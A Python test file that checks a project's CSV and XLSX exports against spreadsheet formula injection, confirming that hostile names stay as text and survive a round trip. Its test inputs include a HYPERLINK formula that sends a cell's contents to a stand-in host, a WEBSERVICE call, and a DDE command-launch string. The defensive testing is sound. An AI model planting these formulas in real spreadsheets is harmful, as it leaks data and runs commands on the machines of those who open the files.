"""Every spreadsheet the project writes (CSV and XLSX, CLI and app) keeps a hostile
name as text, and loads back unchanged through the project's own readers (issue 21, item 6)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile

import openpyxl
import pytest

from ingest.text import FORMULA_START
from policy.analysis import designation_matrix
from policy.coverage import designation_rows
from policy.tables import DESIGNATION_FIELDS, csv_bytes, table
from policy.userdata import load_designations
from tests.conftest import ROOT
from views.analysis_tables import MATRIX_FIELDS, matrix_csv, matrix_frame, matrix_grid, matrix_xlsx, read_matrix_csv

# Formulas Excel and LibreOffice would run (HYPERLINK, WEBSERVICE, DDE), the other
# OWASP starts, an error literal openpyxl would type as an error, and a name that
# already starts with ' (the guard must still be undone exactly).
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=WEBSERVICE("http://evil.example/x")',
           "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "'=1+1", "#N/A"]


def hostile_csv() -> bytes:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=DESIGNATION_FIELDS, lineterminator="\n")
    w.writeheader()
    for i, name in enumerate(HOSTILE):
        # The loader reads a ' before a formula as the project's own guard and drops
        # it, so the name "'=1+1" is written "''=1+1" in the file.
        name = "'" + name if name.startswith("'") else name
        for city in ("广州", "深圳"):
            w.writerow(dict(cluster_id=f"h{i}", cluster_zh=name, cluster_en=name, tier="emerging", place_zh=name,
                            city_zh=city, adcode="", role_zh=name, role="core", basis="explicit", quote=name))
    return buf.getvalue().encode()


@pytest.fixture(scope="module")
def hostile(policy):
    res = load_designations(hostile_csv(), "hostile.csv", policy)
    assert res.policy is not None, res.problems
    p = res.policy
    assert [c.name_en for c in p.clusters.values()] == HOSTILE
    return p


def formula_cells(data: bytes) -> list[str]:
    """The formula elements in the sheets' XML, whatever a reader makes of them."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [f for n in z.namelist() if n.startswith("xl/worksheets/")
                for f in re.findall(rb"<(?:\w+:)?f[ >/]", z.read(n))]


def sheet_values(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_matrix_xlsx_keeps_hostile_names_as_text(hostile, lang):
    m = designation_matrix(hostile, designation_rows(hostile))
    data = matrix_xlsx(hostile, m, lang)
    assert formula_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["matrix", "cells"]
    guarded = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.lstrip("'").startswith(FORMULA_START):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
                    guarded += 1
    # each name twice per cell row (zh, en) in "cells", once per cluster in "matrix"
    assert guarded == 6 * 4 + 6
    # the values are written as they are: no ' added in a typed format
    grid = matrix_grid(hostile, m, lang)
    got = sheet_values(wb["matrix"])
    assert got[0] == list(grid.columns)
    assert [r[1] for r in got[1:-1]] == HOSTILE
    flat = matrix_frame(hostile, m)
    cells = sheet_values(wb["cells"])
    assert cells[0] == MATRIX_FIELDS
    expect = [[";".join(v) if isinstance(v, tuple) else v for v in r]
              for r in flat.itertuples(index=False, name=None)]
    assert [[v if v is not None else "" for v in r] for r in cells[1:]] == expect


def test_matrix_csv_round_trips_hostile_names(hostile):
    frame = matrix_frame(hostile, designation_matrix(hostile, designation_rows(hostile)))
    text = matrix_csv(frame)
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK" in text and "''=1+1" in text
    back = read_matrix_csv(text)
    assert list(back["cluster_en"].unique()) == HOSTILE
    assert back.equals(frame)


def test_designations_csv_round_trips_hostile_names(policy, hostile):
    recs, fields = table("designations", hostile, designation_rows(hostile))
    data = csv_bytes(recs, fields)
    back = load_designations(data, "back.csv", policy)
    assert back.policy is not None, back.problems
    assert [c.name_zh for c in back.policy.clusters.values()] == HOSTILE
    assert [d.quote for d in back.policy.designations] == [d.quote for d in hostile.designations]
    assert sorted({d.role_zh for d in back.policy.designations}) == sorted(HOSTILE)


def test_cli_matrix_csv_and_xlsx_keep_hostile_names_as_text(hostile, tmp_path):
    src = tmp_path / "hostile.csv"
    src.write_bytes(hostile_csv())
    run = [sys.executable, str(ROOT / "cli.py"), "matrix", "--designations", str(src)]
    p = subprocess.run(run, capture_output=True, text=True, encoding="utf-8")
    assert p.returncode == 0, p.stderr
    back = read_matrix_csv(p.stdout)
    assert back.equals(matrix_frame(hostile, designation_matrix(hostile, designation_rows(hostile))))
    out = tmp_path / "m.xlsx"
    p = subprocess.run([*run, "--format", "xlsx", "--out", str(out), "--lang", "en"], capture_output=True,
                       text=True, encoding="utf-8")
    assert p.returncode == 0, p.stderr
    data = out.read_bytes()
    assert formula_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert [r[1] for r in sheet_values(wb["matrix"])[1:-1]] == HOSTILE


def test_formula_guard_is_undone_exactly():
    from ingest.text import formula_like, strip_formula_guard
    from policy.spreadsheet import csv_cell

    for text in [*HOSTILE, "'", "''", "'x", "plain", "", "''=x", "\t=1", "=", "广州"]:
        cell = csv_cell(text)
        assert not str(cell).startswith(FORMULA_START)
        assert strip_formula_guard(cell) == text, text
        assert (cell != text) == formula_like(text)

